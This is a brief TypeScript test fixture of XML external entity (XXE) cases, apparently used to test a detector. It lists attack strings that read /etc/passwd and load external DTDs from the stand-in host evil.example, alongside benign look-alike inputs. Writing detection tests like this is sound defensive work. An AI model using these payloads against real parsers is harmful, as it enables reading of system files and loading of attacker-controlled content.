import type { FamilyCases } from "./mod.ts";

/** xxe: hand-written. */
export const cases: FamilyCases = {
  pairs: [],
  attacks: [
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">',
    '<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">',
    '<xi:include href="file:///etc/passwd"/>',
  ],
  twins: [
    "<!DOCTYPE html>",
    '<?xml version="1.0"?><a>b</a>',
    "an entity of the system",
  ],
};
